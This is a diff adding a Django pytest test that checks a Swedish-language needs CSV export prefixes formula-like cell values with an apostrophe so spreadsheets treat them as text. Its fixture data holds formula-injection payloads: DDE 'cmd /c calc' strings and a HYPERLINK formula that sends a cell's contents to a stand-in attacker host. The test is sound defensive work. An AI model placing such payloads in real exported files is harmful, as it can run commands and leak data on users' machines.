@@ -8,6 +8,8 @@ from django.test import Client
 
 from samskapa.accounts.models import User
 from samskapa.needs.models import Need
+from samskapa.needs.tests.factories import CampaignFactory, NeedFactory
+from samskapa.projects.models import Project
 
 pytestmark = pytest.mark.django_db
 
@@ -66,3 +68,29 @@ def test_list_links_to_the_export_with_its_filters(client: Client, needs: dict[s
     page = client.get("/sv/behov/?project=naringen").content.decode()
 
     assert 'href="/sv/behov/behov.csv?project=naringen"' in page
+
+
+def test_text_that_a_spreadsheet_would_run_is_exported_as_text(
+    client: Client, naringen: Project, author: User
+) -> None:
+    campaign = CampaignFactory(project=naringen, title="@SUM(1+9)*cmd|' /c calc'!A0")
+    NeedFactory(
+        project=naringen,
+        author=author,
+        campaign=campaign,
+        title='=HYPERLINK("https://angripare.example/?q="&B2;"Läs mer")',
+        description="+cmd|' /c calc'!A1",
+        area="-5",
+    )
+
+    response = client.get(EXPORT)
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+
+    header, row = rows
+    cells = dict(zip(header, row, strict=True))
+    assert cells["Titel"] == '\'=HYPERLINK("https://angripare.example/?q="&B2;"Läs mer")'
+    assert cells["Beskrivning"] == "'+cmd|' /c calc'!A1"
+    assert cells["Inventeringskampanj"] == "'@SUM(1+9)*cmd|' /c calc'!A0"
+    assert cells["Plats"] == "'-5"
+    # Numbers are numbers, not text: the count of supporters is written as it is.
+    assert cells["Antal som stöder"] == "0"
